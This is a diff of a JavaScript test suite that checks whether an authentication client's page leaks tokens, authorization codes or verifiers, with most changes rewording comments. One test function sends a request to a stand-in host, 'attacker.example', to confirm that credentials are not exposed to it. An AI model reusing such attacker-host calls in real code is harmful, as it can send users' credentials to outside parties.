@@ -1,5 +1,5 @@
-// No token, authorization code or code verifier can be found in the page: not in its heap, and not in anything stored,
-// sent or shown. First the detector must find a canary in each place.
+// No token, authorization code or code verifier can be found in the page: not in its heap, and not in stored data,
+// messages or the document. The first tests show that the detector finds a canary in each place.
 import assert from 'node:assert/strict'
 import { randomBytes } from 'node:crypto'
 import { after, before, test } from 'node:test'
@@ -7,7 +7,7 @@ import { booted, call, clickLogin, giveConsent, signIn, startApp, startLogin } f
 import { HEAP_ARGS } from '../support/heap.mjs'
 import { collect, record, search } from '../support/leak.mjs'
 
-// A search of the heap takes up to half a minute on a quiet machine.
+// A search of the heap takes up to half a minute, even on a machine without other load.
 const time = { timeout: 180_000 }
 
 let app
@@ -32,13 +32,16 @@ async function openWatched(path) {
 
 const canary = (kind) => ({ kind, value: randomBytes(96).toString('base64url') })
 
-/** Returns a function that calls another one once, and then returns its result again. */
+/** Returns a function that calls `call` only once, and returns the same result each time. */
 const once = (call) => {
   let result
   return () => (result ??= call())
 }
 
-/** Functions that plant a canary, by the place in which it must be found. Each runs in the page. */
+/**
+ * Functions that plant a canary. Each name begins with the place in which the detector must find the canary. The
+ * functions run in the page.
+ */
 const PLANTS = {
   'heap: in a closure': (value) => {
     globalThis.keep = () => value
@@ -124,7 +127,10 @@ const PLANTS = {
   performance: (value) => performance.mark(value),
 }
 
-/** Plants a canary in each place of one page. Resolves with what is found of them, and of one that is not planted. */
+/**
+ * Plants a canary in each place of one page. Resolves with the detector's findings for these canaries and for another
+ * canary that is not planted.
+ */
 const detect = once(async () => {
   const { page, log } = await openWatched('/empty')
   const planted = Object.entries(PLANTS).map(([name, plant]) => ({ plant, secret: canary(name) }))
@@ -137,7 +143,7 @@ const detect = once(async () => {
   const isFound = (findings) => (name) =>
     findings.some(({ kind, place }) => kind === name && place === placeOf(name))
   let findings
-  // The test receives console output and messages a moment later.
+  // Console output and messages reach the test a moment later, so the search is repeated.
   for (let attempt = 0; attempt < 10; attempt++) {
     findings = search(await collect(page, log), secrets)
     if (Object.keys(PLANTS).every(isFound(findings))) break
@@ -166,15 +172,15 @@ test('the detector does not find what was not planted', time, async () => {
 // The vault
 
 /**
- * A redirect always brings the code to the page in the URL. The code has been used by then, and is useless without its
- * verifier. The page must remove the code from the URL and must not store it. The engine remembers the URL at which a
- * page was opened, and the page passed it to the vault.
+ * Places that may contain an authorization code. A redirect always brings the code to the page in the URL, and the page
+ * passes the URL to the vault. The page must remove the code from the URL and must not store it, but the engine
+ * remembers the URL at which a page was opened. The code is useless without its verifier.
  */
 const CODE_MAY_BE_IN = ['heap', 'messages sent', 'performance', 'addresses']
 
 /**
- * Buffers that cannot be inspected: the queues of unread bodies, whose bytes came in messages and are searched there,
- * and the engine's templates of its own objects.
+ * Buffers that the test cannot read. The queues of unread bodies: their bytes arrived in messages, and the test
+ * searches the messages. The engine's templates of its own objects: they contain no data of the page.
  */
 const ENGINES_OWN = /ReadableByteStreamController::QueueEntry|WrapperTypeInfo/
 
@@ -196,7 +202,7 @@ async function assertClean(tabs, step, of = app) {
   }
 }
 
-/** Causes failures, and stores everything that the page can read of them. This function runs in the page. */
+/** Causes failures, and stores everything that the page can read about them. This function runs in the page. */
 async function fail(api) {
   const attempts = [
     () => auth.fetch('https://attacker.example/'),
@@ -229,7 +235,7 @@ async function fail(api) {
   return errors.length
 }
 
-/** Uses everything that a page can use. This function runs in the page. */
+/** Uses all functions of the client. This function runs in the page. */
 async function use(api) {
   globalThis.kept ??= []
   const read = async (response) => kept.push(response, [...response.headers], await response.clone().text())
@@ -346,7 +352,7 @@ test('no token is in the page after a silent login', { timeout: 360_000 }, async
     assert.equal(await page.evaluate(() => auth.resumed), 'redirect')
     assert.equal((await call(page, `${returning.api.url}me`)).value.status, 200)
     await assertClean([tab], 'it came back', returning)
-    // Control experiment: a code that is stored with the attempt is found.
+    // Control experiment: the search finds a code that is stored with the attempt to resume.
     const { value } = returning.ledger.newest('authorization_code')
     await page.evaluate((code) => (sessionStorage['strongroom.resume'] += code), value)
     const [finding] = findLeaks(await collect(page, tab.log), returning)
